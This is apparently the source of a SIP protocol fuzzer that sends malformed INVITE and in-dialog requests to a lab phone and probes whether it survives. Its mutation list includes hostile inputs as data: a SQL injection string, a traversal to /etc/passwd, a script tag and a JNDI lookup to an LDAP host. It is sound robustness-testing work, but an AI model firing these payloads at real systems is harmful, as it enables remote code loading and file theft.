#include "fakes/sip/fuzz.h"

#include <algorithm>
#include <cstdio>
#include <filesystem>
#include <fstream>
#include <map>
#include <optional>
#include <sstream>
#include <utility>

#include "base/core/error.h"
#include "base/proto/sip.h"
#include "fakes/sip/udp.h"

namespace phonelab::fakes {
namespace fs = std::filesystem;

namespace {

constexpr size_t kMaxDatagram = 65000;

/// The INVITE every generated case starts from: header lines whose values hold {field}s.
struct Line {
  std::string name;     // "" for the request line and SDP lines
  std::string pattern;  // with {field} placeholders
};

const std::vector<Line>& requestLines() {
  static const std::vector<Line> lines = {
      {"",
       "{method} sip:{ruri-user}@{ruri-host}:{ruri-port};transport={ruri-transport} "
       "SIP/{version}"},
      {"Via",
       "SIP/2.0/UDP {via-host}:{via-port};branch=z9hG4bK{via-branch};rport;ttl={via-ttl};"
       "maddr={via-maddr};received={via-received}"},
      {"From", "\"{from-display}\" <sip:{from-user}@{from-host}>;tag={from-tag}"},
      {"To", "<sip:{to-user}@{to-host}>"},
      {"Call-ID", "{call-id}@{call-host}"},
      {"CSeq", "{cseq-num} {cseq-method}"},
      {"Contact", "<sip:{contact-user}@{contact-host}:{contact-port}>;expires={contact-expires}"},
      {"Max-Forwards", "{max-forwards}"},
      {"Route", "<sip:{route-host};lr>"},
      {"Record-Route", "<sip:{rr-host};lr>"},
      {"Expires", "{expires}"},
      {"User-Agent", "{user-agent}"},
      {"Subject", "{subject}"},
      {"Accept", "{accept}"},
      {"Allow", "{allow}"},
      {"Supported", "{supported}"},
      {"Date", "{date}"},
      {"Authorization",
       "Digest username=\"{auth-user}\", realm=\"{auth-realm}\", nonce=\"{auth-nonce}\", "
       "uri=\"{auth-uri}\", response=\"{auth-response}\", algorithm={auth-algorithm}"},
      {"Content-Type", "{content-type}/{content-subtype}"},
      {"Content-Length", "{content-length}"},
  };
  return lines;
}

const std::vector<std::string>& sdpLines() {
  static const std::vector<std::string> lines = {
      "v={sdp-v}",
      "o={sdp-o-user} {sdp-o-sess} {sdp-o-ver} IN IP4 {sdp-o-addr}",
      "s={sdp-s}",
      "c=IN IP4 {sdp-c-addr}",
      "t={sdp-t-start} {sdp-t-stop}",
      "m=audio {sdp-m-port} RTP/AVP {sdp-m-fmt}",
      "a=rtpmap:{sdp-a-pt} {sdp-a-codec}/{sdp-a-rate}",
  };
  return lines;
}

using Fields = std::vector<std::pair<std::string, std::string>>;

Fields defaultFields(const FuzzTarget& t) {
  const std::string me = t.local_ip, phone = t.phone_ip;
  return {
      {"method", "INVITE"},
      {"ruri-user", "100"},
      {"ruri-host", phone},
      {"ruri-port", std::to_string(t.phone_port)},
      {"ruri-transport", "udp"},
      {"version", "2.0"},
      {"via-host", me},
      {"via-port", std::to_string(t.local_port)},
      {"via-branch", "fuzz"},
      {"via-ttl", "1"},
      {"via-maddr", me},
      {"via-received", me},
      {"from-display", "Fuzz"},
      {"from-user", "fuzz"},
      {"from-host", me},
      {"from-tag", "f1"},
      {"to-user", "100"},
      {"to-host", phone},
      {"call-id", "fuzz"},
      {"call-host", me},
      {"cseq-num", "1"},
      {"cseq-method", "INVITE"},
      {"contact-user", "fuzz"},
      {"contact-host", me},
      {"contact-port", std::to_string(t.local_port)},
      {"contact-expires", "60"},
      {"max-forwards", "70"},
      {"route-host", me},
      {"rr-host", me},
      {"expires", "60"},
      {"user-agent", "phonelab-fuzz"},
      {"subject", "robustness"},
      {"accept", "application/sdp"},
      {"allow", "INVITE, ACK, CANCEL, BYE, OPTIONS"},
      {"supported", "replaces"},
      {"date", "Thu, 26 Nov 2026 12:00:00 GMT"},
      {"auth-user", "100"},
      {"auth-realm", "lab"},
      {"auth-nonce", "0123456789abcdef"},
      {"auth-uri", "sip:" + phone},
      {"auth-response", "00000000000000000000000000000000"},
      {"auth-algorithm", "MD5"},
      {"content-type", "application"},
      {"content-subtype", "sdp"},
      {"content-length", ""},  // computed unless the case sets it
      {"sdp-v", "0"},
      {"sdp-o-user", "fuzz"},
      {"sdp-o-sess", "1"},
      {"sdp-o-ver", "1"},
      {"sdp-o-addr", me},
      {"sdp-s", "-"},
      {"sdp-c-addr", me},
      {"sdp-t-start", "0"},
      {"sdp-t-stop", "0"},
      {"sdp-m-port", "40000"},
      {"sdp-m-fmt", "0"},
      {"sdp-a-pt", "0"},
      {"sdp-a-codec", "PCMU"},
      {"sdp-a-rate", "8000"},
  };
}

std::string substitute(const std::string& pattern, const std::map<std::string, std::string>& v) {
  std::string out;
  for (size_t i = 0; i < pattern.size();) {
    if (pattern[i] == '{') {
      size_t close = pattern.find('}', i);
      out += v.at(pattern.substr(i + 1, close - i - 1));
      i = close + 1;
    } else {
      out += pattern[i++];
    }
  }
  return out;
}

/// A header-level change: the header at `line` emptied, dropped, repeated or given a long name.
struct HeaderChange {
  size_t line = 0;  // 0 = none (line 0 is the request line)
  enum Kind { Empty, Drop, Repeat, LongName, NoColon } kind = Empty;
  int times = 0;
};

/// The request line and the header lines of `lines`, `v` filled in, `hc` applied (up to the
/// empty line). The header named `omit_if_empty` is left out when its value comes out empty.
std::string composeHead(const std::vector<Line>& lines, const std::map<std::string, std::string>& v,
                        const HeaderChange& hc, const std::string& omit_if_empty = "") {
  std::string msg;
  for (size_t i = 0; i < lines.size(); ++i) {
    const auto& l = lines[i];
    std::string value = substitute(l.pattern, v);
    if (l.name.empty()) {
      msg += value + "\r\n";
      continue;
    }
    if (value.empty() && l.name == omit_if_empty) continue;
    std::string line = l.name + ": " + value + "\r\n";
    if (hc.line == i) {
      switch (hc.kind) {
        case HeaderChange::Empty:
          line = l.name + ":\r\n";
          break;
        case HeaderChange::Drop:
          line.clear();
          break;
        case HeaderChange::Repeat: {
          std::string rep;
          for (int k = 0; k < hc.times; ++k) rep += line;
          line = rep;
          break;
        }
        case HeaderChange::LongName:
          line = std::string(static_cast<size_t>(hc.times), 'X') + l.name + ": " + value + "\r\n";
          break;
        case HeaderChange::NoColon:
          line = l.name + " " + value + "\r\n";
          break;
      }
    }
    msg += line;
  }
  return msg;
}

std::string compose(const std::map<std::string, std::string>& values, const HeaderChange& hc,
                    const std::string& call_id) {
  auto v = values;
  v["call-id"] = v["call-id"] == "fuzz" ? call_id : v["call-id"];
  std::string body;
  for (const auto& l : sdpLines()) body += substitute(l, v) + "\r\n";
  if (v["content-length"].empty()) v["content-length"] = std::to_string(body.size());
  return composeHead(requestLines(), v, hc) + "\r\n" + body;
}

/// What one field becomes in each case: (mutation name, value).
std::vector<std::pair<std::string, std::string>> mutations(const std::string& normal) {
  std::vector<std::pair<std::string, std::string>> out;
  for (size_t n : {128, 256, 512, 1024, 2048, 4097, 8192, 16384, 32768, 60000}) {
    out.emplace_back("overflow-A-" + std::to_string(n), std::string(n, 'A'));
  }
  const std::vector<std::pair<std::string, std::string>> fills = {
      {"pct", "%"},     {"xff", "\xff"},       {"fmt-s", "%s"}, {"nul", std::string(1, '\0')},
      {"space", " "},   {"quote", "\""},       {"lt", "<"},     {"semi", ";"},
      {"pct00", "%00"}, {"utf8-2", "\xc3\xa9"}};
  for (const auto& [name, fill] : fills) {
    std::string v;
    while (v.size() < 4097) v += fill;
    out.emplace_back("overflow-" + name + "-4097", v);
  }
  out.emplace_back("empty", "");
  const std::string mid = normal.substr(0, normal.size() / 2);
  const std::string rest = normal.substr(normal.size() / 2);
  const char* chars[] = {"\x00", "\x01", "\x7f", "\xff", "\x80", "\r", "\n", "\r\n",
                         "\t",   " ",    "\"",   "'",    "<",    ">",  ";",  ",",
                         ":",    "@",    "%",    "\\",   "/",    "?",  "=",  "&",
                         "[",    "]",    "{",    "}",    "|",    "^",  "`",  "~"};
  for (size_t i = 0; i < std::size(chars); ++i) {
    std::string c = i == 0 ? std::string(1, '\0') : std::string(chars[i]);
    char hex[8];
    std::snprintf(hex, sizeof hex, "%02x", static_cast<unsigned char>(c[0]));
    std::string name = "char-0x" + std::string(hex) + (c.size() > 1 ? "-0a" : "");
    out.emplace_back(name, mid + c + rest);
  }
  int format_no = 0;
  for (const char* f : {"%s%s%s%s%s%s", "%n%n%n%n%n%n", "%x%x%x%x%x%x", "%99999999s", "%.1024d",
                        "%@%@%@", "%p%p%p%p", "%08x.%08x.%08x.%08x"}) {
    out.emplace_back("format-" + std::to_string(++format_no), f);
  }
  for (const char* n :
       {"-1", "0", "4294967295", "4294967296", "18446744073709551616", "99999999999999999999999",
        "2147483648", "-2147483649", "0x10", "1e10", "1.5", "00000000000000000001"}) {
    out.emplace_back(std::string("int-") + n, n);
  }
  for (const auto& [name, s] : std::vector<std::pair<std::string, std::string>>{
           {"utf8-overlong", "\xc0\xaf"},
           {"utf8-surrogate", "\xed\xa0\x80"},
           {"utf8-bom", "\xef\xbb\xbf"},
           {"utf8-beyond", "\xf4\x90\x80\x80"},
           {"inject-sql", "' OR '1'='1"},
           {"inject-path", "../../../../../../etc/passwd"},
           {"inject-html", "<script>alert(1)</script>"},
           {"inject-jndi", "${jndi:ldap://198.18.0.66/x}"}}) {
    out.emplace_back(name, s);
  }
  return out;
}

}  // namespace

std::vector<FuzzCase> protosCases(const FuzzTarget& t) {
  const Fields fields = defaultFields(t);
  std::map<std::string, std::string> base(fields.begin(), fields.end());
  std::vector<FuzzCase> out;
  size_t serial = 0;
  auto add = [&](std::string name, const std::map<std::string, std::string>& values,
                 const HeaderChange& hc) {
    std::string bytes = compose(values, hc, "fuzz-" + std::to_string(++serial));
    if (bytes.size() > kMaxDatagram) return;
    out.push_back({std::move(name), std::move(bytes)});
  };
  for (const auto& [field, normal] : fields) {
    for (const auto& [mname, value] : mutations(normal)) {
      auto values = base;
      values[field] = value;
      add(field + "/" + mname, values, {});
    }
  }
  const auto& lines = requestLines();
  for (size_t i = 1; i < lines.size(); ++i) {
    const std::string h = "header-" + lines[i].name + "/";
    add(h + "empty", base, {i, HeaderChange::Empty, 0});
    add(h + "drop", base, {i, HeaderChange::Drop, 0});
    add(h + "no-colon", base, {i, HeaderChange::NoColon, 0});
    for (int n : {2, 50, 400})
      add(h + "repeat-" + std::to_string(n), base, {i, HeaderChange::Repeat, n});
    add(h + "long-name-4097", base, {i, HeaderChange::LongName, 4097});
  }
  return out;
}

namespace {

// ---- the in-dialog cases ----

/// A request inside the call: header lines whose values hold {field}s (the dialog's identifiers
/// are markers, filled in when sent).
const std::vector<Line>& dialogLines() {
  static const std::vector<Line> lines = {
      {"", "{method} sip:{ruri-user}@{ruri-host}:{ruri-port} SIP/2.0"},
      {"Via", "SIP/2.0/UDP {via-host}:{via-port};branch=z9hG4bK{via-branch};rport"},
      {"From", "<sip:{from-user}@{from-host}>{from-params}"},
      {"To", "<sip:{to-user}@{to-host}>{to-params}"},
      {"Call-ID", "{call-id}"},
      {"CSeq", "{cseq-num}{cseq-sep}{cseq-method}"},
      {"Contact", "<sip:{contact-user}@{contact-host}:{contact-port}>"},
      {"Max-Forwards", "{max-forwards}"},
      {"Content-Type", "{content-type}"},
      {"Content-Length", "{content-length}"},
  };
  return lines;
}

/// The body a request of `method` carries in a call, and its type ("" = none).
std::pair<std::string, std::string> dialogBody(const std::string& method, const FuzzTarget& t) {
  if (method == "INVITE" || method == "UPDATE") {
    return {"application/sdp", "v=0\r\no=fuzz 1 2 IN IP4 " + t.local_ip + "\r\ns=-\r\nc=IN IP4 " +
                                   t.local_ip +
                                   "\r\nt=0 0\r\nm=audio 40000 RTP/AVP 0\r\na=rtpmap:0 "
                                   "PCMU/8000\r\n"};
  }
  if (method == "INFO") return {"application/dtmf-relay", "Signal=5\r\nDuration=160\r\n"};
  return {"", ""};
}

std::string composeDialog(const std::map<std::string, std::string>& values, const HeaderChange& hc,
                          const std::string& body) {
  auto v = values;
  if (v["content-length"].empty()) v["content-length"] = std::to_string(body.size());
  return composeHead(dialogLines(), v, hc, "Content-Type") + "\r\n" + body;
}

void replaceAll(std::string& s, std::string_view what, const std::string& with) {
  for (size_t at = s.find(what); at != std::string::npos; at = s.find(what, at + with.size())) {
    s.replace(at, what.size(), with);
  }
}

}  // namespace

std::vector<FuzzCase> dialogCases(const FuzzTarget& t) {
  const std::string me = t.local_ip, phone = t.phone_ip;
  const std::string call_id = kMarkCallId, ltag = kMarkLocalTag, rtag = kMarkRemoteTag,
                    cseq = kMarkCseq;
  std::vector<FuzzCase> out;
  size_t serial = 0;
  // The BYE cases last: one the phone accepts ends the call.
  for (const std::string method : {"INVITE", "INFO", "UPDATE", "OPTIONS", "ACK", "BYE"}) {
    const auto [type, body] = dialogBody(method, t);
    const std::map<std::string, std::string> base = {
        {"method", method},
        {"ruri-user", "100"},
        {"ruri-host", phone},
        {"ruri-port", std::to_string(t.phone_port)},
        {"via-host", me},
        {"via-port", std::to_string(t.local_port)},
        {"via-branch", ""},
        {"from-user", "fuzz"},
        {"from-host", me},
        {"from-params", ";tag=" + ltag},
        {"to-user", "100"},
        {"to-host", phone},
        {"to-params", ";tag=" + rtag},
        {"call-id", call_id},
        {"cseq-num", cseq},
        {"cseq-sep", " "},
        {"cseq-method", method},
        {"contact-user", "fuzz"},
        {"contact-host", me},
        {"contact-port", std::to_string(t.local_port)},
        {"max-forwards", "70"},
        {"content-type", type},
        {"content-length", ""},
    };
    const std::string m = method == "INVITE" ? "reinvite" : method;
    auto add = [&](const std::string& name, std::map<std::string, std::string> values,
                   const HeaderChange& hc) {
      values["via-branch"] = "dlg" + std::to_string(++serial);
      std::string bytes = composeDialog(values, hc, body);
      if (bytes.size() > kMaxDatagram) return;
      out.push_back({"in-dialog-" + m + "/" + name, std::move(bytes)});
    };
    // The dialog's fields: the tags (as the tag parameter's value), the Call-ID and the CSeq. A
    // character case keeps the dialog's value and appends the character: the value a sloppy
    // matcher compares by prefix.
    const std::vector<std::pair<std::string, std::string>> dialog_fields = {
        {"to-tag", rtag}, {"from-tag", ltag}, {"call-id", call_id}, {"cseq-num", cseq}};
    for (const auto& [field, normal] : dialog_fields) {
      for (auto [mname, value] : mutations("")) {
        if (mname.rfind("char-", 0) == 0) value = normal + value;
        auto values = base;
        if (field == "to-tag") {
          values["to-params"] = ";tag=" + value;
        } else if (field == "from-tag") {
          values["from-params"] = ";tag=" + value;
        } else {
          values[field] = value;
        }
        add(field + "/" + mname, values, {});
      }
    }
    for (const std::string field : {"cseq-method", "content-length"}) {
      const std::string normal = field == "cseq-method" ? method : std::to_string(body.size());
      for (const auto& [mname, value] : mutations(normal)) {
        auto values = base;
        values[field] = value;
        add(field + "/" + mname, values, {});
      }
    }
    // Hand-made: what a dialog matcher meets in the wild.
    const std::vector<std::tuple<std::string, std::string, std::string>> hand = {
        {"to-tag/missing", "to-params", ""},
        {"to-tag/no-value", "to-params", ";tag"},
        {"to-tag/twice", "to-params", ";tag=" + rtag + ";tag=" + rtag},
        {"to-tag/foreign", "to-params", ";tag=0123456789"},
        {"to-tag/upper-case-name", "to-params", ";TAG=" + rtag},
        {"to-tag/before-other-params", "to-params", ";x=" + std::string(300, 'x') + ";tag=" + rtag},
        {"from-tag/missing", "from-params", ""},
        {"from-tag/no-value", "from-params", ";tag"},
        {"from-tag/twice", "from-params", ";tag=" + ltag + ";tag=" + ltag},
        {"cseq/number-only", "cseq-sep", ""},
        {"cseq/tab", "cseq-sep", "\t"},
        {"cseq/many-spaces", "cseq-sep", std::string(64, ' ')},
        {"cseq/folded", "cseq-sep", "\r\n "},
        {"cseq/first-number", "cseq-num", "1"},
        {"cseq/2^31", "cseq-num", "2147483648"},
        {"cseq/2^31-1", "cseq-num", "2147483647"},
        {"cseq/sign", "cseq-num", "+" + cseq},
        {"cseq/leading-zeros", "cseq-num", "000000000000" + cseq},
        {"cseq/method-changed", "cseq-method", "X" + std::string(method).substr(1)},
    };
    for (const auto& [name, key, value] : hand) {
      auto values = base;
      values[key] = value;
      if (name == "cseq/number-only") values["cseq-method"] = "";
      add(name, values, {});
    }
    const auto& lines = dialogLines();
    for (size_t i = 1; i < lines.size(); ++i) {
      if (lines[i].name == "Contact" || lines[i].name == "Content-Type") continue;
      const std::string h = "header-" + lines[i].name + "/";
      add(h + "empty", base, {i, HeaderChange::Empty, 0});
      add(h + "drop", base, {i, HeaderChange::Drop, 0});
      add(h + "no-colon", base, {i, HeaderChange::NoColon, 0});
      for (int n : {2, 50})
        add(h + "repeat-" + std::to_string(n), base, {i, HeaderChange::Repeat, n});
      add(h + "long-name-4097", base, {i, HeaderChange::LongName, 4097});
    }
  }
  return out;
}

std::string fillDialog(std::string bytes, const DialogIds& d) {
  replaceAll(bytes, kMarkCallId, d.call_id);
  replaceAll(bytes, kMarkLocalTag, d.local_tag);
  replaceAll(bytes, kMarkRemoteTag, d.remote_tag);
  replaceAll(bytes, kMarkCseq, std::to_string(d.cseq));
  return bytes;
}

std::vector<FuzzCase> corpusCases(const std::string& dir) {
  std::vector<fs::path> files;
  std::error_code ec;
  for (fs::directory_iterator it(dir, ec), end; !ec && it != end; it.increment(ec)) {
    if (it->path().extension() == ".sip") files.push_back(it->path());
  }
  if (ec) throw Error("sip_fuzz: cannot read the corpus folder " + dir + ": " + ec.message());
  std::sort(files.begin(), files.end());
  std::vector<FuzzCase> out;
  for (const auto& f : files) {
    std::ifstream in(f, std::ios::binary);
    std::ostringstream s;
    s << in.rdbuf();
    std::string bytes = s.str();
    if (bytes.size() > kMaxDatagram) bytes.resize(kMaxDatagram);
    out.push_back({"rfc4475/" + f.stem().string(), std::move(bytes)});
  }
  return out;
}

struct SipFuzzer::Impl {
  FuzzTarget t;
  sipudp::Socket sock;
  unsigned long probes = 0;
  // In-dialog: the call the cases go into, and whether the phone has ended it.
  std::optional<DialogIds> dialog;
  bool dialog_ended = false;
  unsigned long calls = 0, acks = 0;
  explicit Impl(const FuzzTarget& target)
      : t(target), sock("", target.local_ip, target.local_port) {}

  std::string me() const { return t.local_ip + ":" + std::to_string(t.local_port); }
  std::string phoneUri() const {
    return "sip:100@" + t.phone_ip + ":" + std::to_string(t.phone_port);
  }

  std::string probeRequest(const std::string& call_id) const {
    return "OPTIONS sip:" + t.phone_ip + ":" + std::to_string(t.phone_port) +
           " SIP/2.0\r\nVia: SIP/2.0/UDP " + me() + ";branch=z9hG4bK" + call_id +
           ";rport\r\nFrom: <sip:probe@" + t.local_ip + ">;tag=probe\r\nTo: <sip:" + t.phone_ip +
           ">\r\nCall-ID: " + call_id + "\r\nCSeq: " + std::to_string(probes) +
           " OPTIONS\r\nMax-Forwards: 70\r\nContent-Length: 0\r\n\r\n";
  }

  /// A request within the call with these From/To values (an ACK, our BYE).
  std::string inCall(const std::string& method, const std::string& from, const std::string& to,
                     const std::string& call_id, unsigned long cseq, const std::string& branch) {
    return method + " " + phoneUri() + " SIP/2.0\r\nVia: SIP/2.0/UDP " + me() + ";branch=z9hG4bK" +
           branch + ";rport\r\nFrom: " + from + "\r\nTo: " + to + "\r\nCall-ID: " + call_id +
           "\r\nCSeq: " + std::to_string(cseq) + " " + method +
           "\r\nMax-Forwards: 70\r\nContent-Length: 0\r\n\r\n";
  }

  /// Receives one datagram, keeping the call in step: a 2xx to a re-INVITE of the call is ACKed
  /// (RFC 3261 13.2.2.4), a 2xx to a BYE or the phone's own BYE ends it.
  std::optional<sipudp::Datagram> receive(int ms) {
    auto d = sock.receive(ms);
    if (d && dialog && !dialog_ended && d->data.find(dialog->call_id) != std::string::npos) {
      track(d->data);
    }
    return d;
  }

  void track(const std::string& data) {
    auto parsed = proto::sip::parse(data);
    if (!parsed.message || parsed.message->callId() != dialog->call_id) return;
    const proto::sip::Message& m = *parsed.message;
    const auto [n, method] = m.cseq();
    const std::string* from = m.header("From");
    const std::string* to = m.header("To");
    if (!from || !to) return;
    if (m.request) {
      if (m.method == "BYE") {
        auto ok = proto::sip::makeResponse(m, 200, "OK", "");
        sock.send(t.phone_ip, t.phone_port, proto::sip::serialize(ok));
        dialog_ended = true;
      }
      return;
    }
    if (m.status < 200 || m.status >= 300) return;
    if (method == "INVITE") {
      sock.send(t.phone_ip, t.phone_port,
                inCall("ACK", *from, *to, dialog->call_id, n, "ack" + std::to_string(++acks)));
    } else if (method == "BYE") {
      dialog_ended = true;
    }
  }

  /// Sends an OPTIONS and waits for its answer. `other`: the first line of the first datagram
  /// that is not that answer (the phone's answer to the case sent just before, which it handles
  /// first), left as it is when none comes.
  bool probe(double within, std::string* other = nullptr) {
    const std::string call_id = "probe-" + std::to_string(++probes) + "@" + t.local_ip;
    const std::string req = probeRequest(call_id);
    Deadline deadline = Deadline::in(Seconds(within));
    Deadline resend = Deadline::in(Seconds(within / 2));
    bool resent = false;
    sock.send(t.phone_ip, t.phone_port, req);
    while (!deadline.expired()) {
      Deadline slice = resent ? deadline : deadline.min(resend);
      auto d = receive(std::max(0, slice.remainingMs()));
      if (d) {
        if (d->data.rfind("SIP/2.0 ", 0) == 0 && d->data.find(call_id) != std::string::npos) {
          return true;
        }
        // An answer to the case, or a request of the phone's (an answer to an earlier probe,
        // retransmitted, is not the case's).
        if (other && other->empty() && d->data.find("probe-") == std::string::npos) {
          *other = d->data.substr(0, d->data.find("\r\n"));
        }
        continue;
      }
      if (!resent && resend.expired()) {
        sock.send(t.phone_ip, t.phone_port, req);
        resent = true;
      }
    }
    return false;
  }

  /// The probe before the first case: false (and `out.error`) when the phone does not answer.
  bool firstProbe(FuzzOutcome& out, double within) {
    if (probe(within)) return true;
    out.alive = false;
    out.error = "the phone did not answer an OPTIONS probe before the first case";
    return false;
  }

  /// Sends case `i` (as `bytes`) and probes at once: the phone handles the case first, so its
  /// answer to the case (evidence) comes before the probe's. False when the probe went
  /// unanswered (`out.alive`, `out.killer`).
  bool sendCase(FuzzOutcome& out, size_t i, const FuzzCase& c, const std::string& bytes,
                double within,
                const std::function<void(size_t, const FuzzCase&, const std::string&)>& on_case) {
    sock.send(t.phone_ip, t.phone_port, bytes);
    ++out.sent;
    std::string answer;
    const bool ok = probe(within, &answer);
    if (!answer.empty()) ++out.answered;
    if (on_case) on_case(i, c, answer);
    if (ok) return true;
    out.alive = false;
    out.killer = c.name;
    return false;
  }

  /// Calls the phone and waits for the answer: "" when the call is up (dialog set), else why not.
  /// A 486 means the phone still has the previous call: it goes on in that one.
  std::string setUp(const DialogOptions& o) {
    const std::string call_id =
        "dialog-" + std::to_string(++calls) + "-" + proto::sip::randomToken(8) + "@" + t.local_ip;
    const std::string tag = proto::sip::randomToken(8);
    const std::string from = "<sip:fuzz@" + t.local_ip + ">;tag=" + tag;
    const std::string to = "<" + phoneUri() + ">";
    const std::string branch = "call" + std::to_string(calls) + proto::sip::randomToken(6);
    const std::string sdp = "v=0\r\no=fuzz 1 1 IN IP4 " + t.local_ip + "\r\ns=-\r\nc=IN IP4 " +
                            t.local_ip + "\r\nt=0 0\r\nm=audio 40000 RTP/AVP 0\r\na=rtpmap:0 " +
                            "PCMU/8000\r\n";
    std::string invite = "INVITE " + phoneUri() + " SIP/2.0\r\nVia: SIP/2.0/UDP " + me() +
                         ";branch=z9hG4bK" + branch + ";rport\r\nFrom: " + from + "\r\nTo: " + to +
                         "\r\nCall-ID: " + call_id + "\r\nCSeq: 1 INVITE\r\nContact: <sip:fuzz@" +
                         me() + ">\r\nMax-Forwards: 70\r\n";
    for (const auto& h : o.invite_headers) invite += h + "\r\n";
    invite += "Content-Type: application/sdp\r\nContent-Length: " + std::to_string(sdp.size()) +
              "\r\n\r\n" + sdp;
    Deadline deadline = Deadline::in(Seconds(o.setup_within));
    double retx = 0.5;
    Deadline resend = Deadline::in(Seconds(retx));
    bool provisional = false, rang = false;
    sock.send(t.phone_ip, t.phone_port, invite);
    while (!deadline.expired()) {
      auto d = receive(std::max(0, (provisional ? deadline : deadline.min(resend)).remainingMs()));
      if (!d) {
        if (!provisional && resend.expired()) {
          sock.send(t.phone_ip, t.phone_port, invite);
          retx = std::min(retx * 2, 4.0);
          resend = Deadline::in(Seconds(retx));
        }
        continue;
      }
      auto parsed = proto::sip::parse(d->data);
      if (!parsed.message || parsed.message->request || parsed.message->callId() != call_id) {
        continue;
      }
      const proto::sip::Message& r = *parsed.message;
      const std::string* rto = r.header("To");
      if (r.status < 200) {
        provisional = true;
        if (r.status > 100 && !rang) {
          rang = true;
          if (o.on_ringing) o.on_ringing();
        }
        continue;
      }
      const std::string line = "SIP/2.0 " + r.startLine();
      if (r.status >= 300) {
        // RFC 3261 17.1.1.3: the ACK of a failure is part of the INVITE transaction.
        sock.send(t.phone_ip, t.phone_port,
                  inCall("ACK", from, rto ? *rto : to, call_id, 1, branch));
        return "the phone answered the call's INVITE with " + line;
      }
      sock.send(t.phone_ip, t.phone_port,
                inCall("ACK", from, rto ? *rto : to, call_id, 1, "ack" + std::to_string(++acks)));
      dialog = DialogIds{call_id, tag, r.toTag(), 2};
      dialog_ended = false;
      return "";
    }
    sock.send(t.phone_ip, t.phone_port,
              "CANCEL " + phoneUri() + " SIP/2.0\r\nVia: SIP/2.0/UDP " + me() + ";branch=z9hG4bK" +
                  branch + ";rport\r\nFrom: " + from + "\r\nTo: " + to + "\r\nCall-ID: " + call_id +
                  "\r\nCSeq: 1 CANCEL\r\nMax-Forwards: 70\r\nContent-Length: 0\r\n\r\n");
    return "the call was not answered within " + formatSeconds(o.setup_within) +
           (rang          ? " (it rang)"
            : provisional ? " (no ringing)"
                          : " (no answer at all)");
  }

  /// Ends the call with a well-formed BYE (its answer is looked for briefly).
  void hangUp() {
    if (!dialog || dialog_ended) return;
    const DialogIds& d = *dialog;
    sock.send(t.phone_ip, t.phone_port,
              inCall("BYE", "<sip:fuzz@" + t.local_ip + ">;tag=" + d.local_tag,
                     "<" + phoneUri() + ">;tag=" + d.remote_tag, d.call_id, d.cseq, "bye"));
    Deadline deadline = Deadline::in(Seconds(0.5));
    while (!dialog_ended && !deadline.expired()) receive(std::max(0, deadline.remainingMs()));
  }
};

SipFuzzer::SipFuzzer(const FuzzTarget& t) : impl_(std::make_unique<Impl>(t)) {}
SipFuzzer::~SipFuzzer() = default;

bool SipFuzzer::probe(double within) {
  return impl_->probe(within);
}

FuzzOutcome SipFuzzer::run(
    const std::vector<FuzzCase>& cases, double probe_within, const std::function<bool()>& cancelled,
    const std::function<void(size_t, const FuzzCase&, const std::string&)>& on_case) {
  FuzzOutcome out;
  if (!impl_->firstProbe(out, probe_within)) return out;
  for (size_t i = 0; i < cases.size(); ++i) {
    if (cancelled && cancelled()) break;
    if (!impl_->sendCase(out, i, cases[i], cases[i].bytes, probe_within, on_case)) break;
  }
  return out;
}

FuzzOutcome SipFuzzer::runInDialog(
    const std::vector<FuzzCase>& cases, const DialogOptions& d, double probe_within,
    const std::function<bool()>& cancelled,
    const std::function<void(size_t, const FuzzCase&, const std::string&)>& on_case) {
  FuzzOutcome out;
  Impl& im = *impl_;
  if (!im.firstProbe(out, probe_within)) return out;
  if (auto why = im.setUp(d); !why.empty()) {
    out.error = "no call to send the in-dialog cases into: " + why;
    return out;
  }
  out.calls = 1;
  for (size_t i = 0; i < cases.size(); ++i) {
    if (cancelled && cancelled()) break;
    if (im.dialog_ended) {
      const DialogIds previous = *im.dialog;
      if (auto why = im.setUp(d); !why.empty()) {
        if (why.find(" 486") == std::string::npos) {
          out.error = "the phone accepted the BYE of case " + std::to_string(i) + " '" +
                      cases[i - 1].name + "', and the next call failed: " + why;
          break;
        }
        im.dialog = previous;  // busy: the previous call goes on
        im.dialog_ended = false;
      } else {
        ++out.calls;
      }
    }
    const std::string bytes = fillDialog(cases[i].bytes, *im.dialog);
    ++im.dialog->cseq;
    if (!im.sendCase(out, i, cases[i], bytes, probe_within, on_case)) break;
  }
  if (out.alive) im.hangUp();
  return out;
}

}  // namespace phonelab::fakes
